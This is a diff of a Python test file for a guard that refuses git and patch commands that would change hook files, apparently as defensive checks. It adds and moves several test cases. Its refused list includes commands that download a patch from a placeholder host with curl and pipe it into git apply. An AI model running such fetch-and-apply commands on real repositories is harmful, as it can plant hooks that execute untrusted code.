@@ -156,6 +156,8 @@ def _in_repo(layout: tuple[Any, dict[str, str]], repository: Path, line: str) ->
         "git apply drop.patch",
         "patch -p1 < drop.patch",
         "git am drop.patch",
+        "git apply missing.patch",  # git is judged by the tree it changes (round 7)
+        "git merge --no-edit not-fetched",  # a revision not held now: judged by the tree
         "curl -sL https://example.invalid/x.patch | git apply",
         "curl -so fix.patch https://example.invalid/x && git apply fix.patch",
     ],
@@ -177,7 +179,7 @@ def test_changes_that_reach_the_hook_files_are_refused(
         "git apply docs.patch",
         "patch -p1 < docs.patch",
         "git apply --stat drop.patch",
-        "git apply missing.patch",
+        "patch -p1 < missing.patch",  # patch(1) of a file that is not there applies nothing
         "git cherry-pick --continue",
     ],
 )
